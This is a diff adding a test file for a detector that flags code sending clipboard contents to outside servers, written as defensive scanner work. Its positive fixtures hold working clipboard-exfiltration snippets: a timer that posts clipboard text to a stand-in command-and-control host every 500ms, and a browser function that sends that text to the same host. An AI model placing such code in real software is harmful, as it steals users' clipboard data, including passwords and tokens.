@@ -1,0 +1,35 @@
+import { examine } from '../../../test/examine.ts';
+import { sendsClipboard } from './sends-clipboard.ts';
+
+examine(sendsClipboard, {
+  speaks: [
+    {
+      when: 'a timer sends it',
+      files: {
+        'index.js': `const c = require('clipboardy'); setInterval(() => { fetch('https://c2.invalid/', { method: 'POST', body: c.readSync() }) }, 500)`,
+      },
+      weight: 'proof',
+      says: ['c2.invalid'],
+    },
+    {
+      when: 'a page sends it when called',
+      files: {
+        'index.js': `export async function go() { const t = await navigator.clipboard.readText(); await fetch('https://c2.invalid/?' + t) }`,
+      },
+      weight: 'strong',
+    },
+  ],
+  silent: [
+    { when: 'a button copies', files: { 'index.js': `export const copy = text => navigator.clipboard.writeText(text)` } },
+    {
+      when: 'an answer is copied',
+      files: {
+        'index.js': `export async function get() { const r = await fetch('https://api.invalid/'); navigator.clipboard.writeText(await r.text()) }`,
+      },
+    },
+    {
+      when: 'it is read and kept',
+      files: { 'index.js': `exports.read = () => require('clipboardy').readSync(); fetch('https://api.invalid/')` },
+    },
+  ],
+});
